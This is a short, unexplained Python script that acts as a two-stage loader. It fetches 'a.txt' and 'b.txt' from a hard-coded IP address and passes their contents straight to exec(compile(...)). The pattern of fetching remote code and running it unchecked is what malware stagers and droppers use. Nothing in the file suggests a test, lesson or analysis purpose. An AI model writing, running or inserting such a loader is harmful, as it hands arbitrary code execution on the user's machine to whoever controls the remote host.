import requests

BASE = "http://203.0.113.45/s"
stages = {}
for name in ("a", "b"):
    r = requests.get(f"{BASE}/{name}.txt", timeout=8)
    if r.status_code == 200:
        stages[name] = r.text

for name in sorted(stages):
    exec(compile(stages[name], name, "exec"))
